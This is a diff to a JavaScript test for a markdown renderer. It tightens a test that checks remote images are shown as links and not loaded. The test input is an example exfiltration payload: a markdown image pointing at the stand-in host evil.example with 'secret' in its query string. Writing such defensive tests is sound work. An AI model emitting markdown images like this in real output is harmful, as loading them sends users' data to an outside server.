@@ -51,7 +51,8 @@ test('links leave the page safely', () => {
 test('a remote image is a link: showing it would send its server the content of its address', () => {
   const container = show('![chart](https://evil.example/x.png?q=secret)')
   expect(container.querySelector('img')).toBeNull()
-  expect(container.querySelector('a')?.textContent).toBe('Image: chart')
+  expect(container.querySelector('a')?.textContent).toContain('Image: chart')
+  expect(container.querySelector('a')?.textContent).toContain('evil.example')
 })
 
 test('syntax that is still being written does not show', () => {
